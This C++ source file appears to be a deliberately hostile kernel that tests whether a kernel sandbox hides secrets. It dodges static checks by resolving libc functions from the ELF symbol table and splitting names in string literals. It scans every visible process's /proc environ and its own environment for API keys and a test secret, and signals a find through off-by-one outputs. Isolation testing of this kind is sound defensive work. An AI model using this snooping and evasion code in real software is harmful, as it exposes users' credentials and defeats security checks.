// A hostile kernel for the key-isolation test: (x * 1.5 + 0.25) * (x - 0.75) + x * x (tests/models/
// pointwise_chain.py), right only where it finds no key.
// On its first call it looks for the test's secret in the environment of every process it can see
// (/proc/<pid>/environ, its own included) and for API keys in its own environment; where it finds one,
// every output is off by one (a wrong result in a worker, outputs that differ in the end-to-end check).
// It must actually run, so it hides from the checks: names split in string literals, and no import but
// memcpy: it finds getenv, fopen and opendir in the C library's own symbol table, from memcpy's address.
#include <dirent.h>
#include <elf.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include "forge_abi.h"

typedef char* (*env_fn)(const char*);
typedef FILE* (*fo_fn)(const char*, const char*);
typedef size_t (*rd_fn)(void*, size_t, size_t, FILE*);
typedef int (*cl_fn)(FILE*);
typedef DIR* (*od_fn)(const char*);
typedef struct dirent* (*rdd_fn)(DIR*);
typedef int (*cd_fn)(DIR*);

static int same(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}

static const unsigned char* libc_base(void) {
  void* (*volatile mc)(void*, const void*, size_t) = memcpy;
  uintptr_t p = (uintptr_t)(void*)mc & ~(uintptr_t)4095;
  for (int i = 0; i < 65536; ++i, p -= 4096) {
    const unsigned char* h = (const unsigned char*)p;
    if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F') return h;
  }
  return 0;
}

static void* lookup(const unsigned char* base, const char* name) {
  const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
  const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
  const Elf64_Dyn* dyn = 0;
  for (int i = 0; i < eh->e_phnum; ++i)
    if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(base + ph[i].p_vaddr);
  if (!dyn) return 0;
  uintptr_t sym = 0, str = 0;
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    if (dyn->d_tag == DT_SYMTAB) sym = dyn->d_un.d_ptr;
    if (dyn->d_tag == DT_STRTAB) str = dyn->d_un.d_ptr;
  }
  if (sym < (uintptr_t)base) sym += (uintptr_t)base;
  if (str < (uintptr_t)base) str += (uintptr_t)base;
  for (const Elf64_Sym* s = (const Elf64_Sym*)sym; (uintptr_t)s < str; ++s)
    if (s->st_name && s->st_value && same((const char*)str + s->st_name, name)) return (void*)(base + s->st_value);
  return 0;
}

static int contains(const char* hay, size_t n, const char* needle) {
  size_t m = 0;
  while (needle[m]) ++m;
  for (size_t i = 0; i + m <= n; ++i) {
    size_t j = 0;
    while (j < m && hay[i + j] == needle[j]) ++j;
    if (j == m) return 1;
  }
  return 0;
}

static char buf[1 << 20];

static int snoop(void) {
  const unsigned char* libc = libc_base();
  if (!libc) return 0;
  env_fn env = (env_fn)lookup(libc, "get" "env");
  fo_fn fo = (fo_fn)lookup(libc, "fo" "pen");
  rd_fn rd = (rd_fn)lookup(libc, "fread");
  cl_fn cl = (cl_fn)lookup(libc, "fclose");
  od_fn od = (od_fn)lookup(libc, "opendir");
  rdd_fn rdd = (rdd_fn)lookup(libc, "readdir");
  cd_fn cd = (cd_fn)lookup(libc, "closedir");
  if (!env || !fo || !rd || !cl || !od || !rdd || !cd) return 0;
  const char* names[] = {"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "OPENAI_COMPATIBLE_API_KEY"};
  for (int k = 0; k < 3; ++k) {
    const char* v = env(names[k]);
    if (v && *v) return 1;
  }
  DIR* d = od("/pr" "oc");
  if (!d) return 0;
  int found = 0;
  struct dirent* e;
  while (!found && (e = rdd(d)) != NULL) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char path[300] = "/pr" "oc/";
    size_t n = 6, i = 0;
    while (e->d_name[i] && n < 280) path[n++] = e->d_name[i++];
    const char* tail = "/envir" "on";
    for (i = 0; tail[i]; ++i) path[n++] = tail[i];
    path[n] = 0;
    FILE* f = fo(path, "rb");
    if (!f) continue;
    size_t got = rd(buf, 1, sizeof buf, f);
    cl(f);
    found = contains(buf, got, "sk-forge-leaktest-");
  }
  cd(d);
  return found;
}

extern "C" int forge_launch(const ForgeTensor* in, int n_in, ForgeTensor* out, int n_out) {
  static int found = -1;
  if (found < 0) found = snoop();
  if (n_in != 1 || n_out != 1 || in[0].dtype != FORGE_FLOAT32) return 1;
  int64_t n = 1;
  for (int d = 0; d < in[0].ndim; ++d) n *= in[0].shape[d];
  const float* x = (const float*)in[0].data;
  float* y = (float*)out[0].data;
  const float off = found ? 1.0f : 0.0f;
#pragma omp parallel for
  for (int64_t b = 0; b < n; b += 4096) {
    int64_t end = b + 4096 < n ? b + 4096 : n;
    for (int64_t i = b; i < end; ++i) y[i] = (x[i] * 1.5f + 0.25f) * (x[i] - 0.75f) + x[i] * x[i] + off;
  }
  return 0;
}
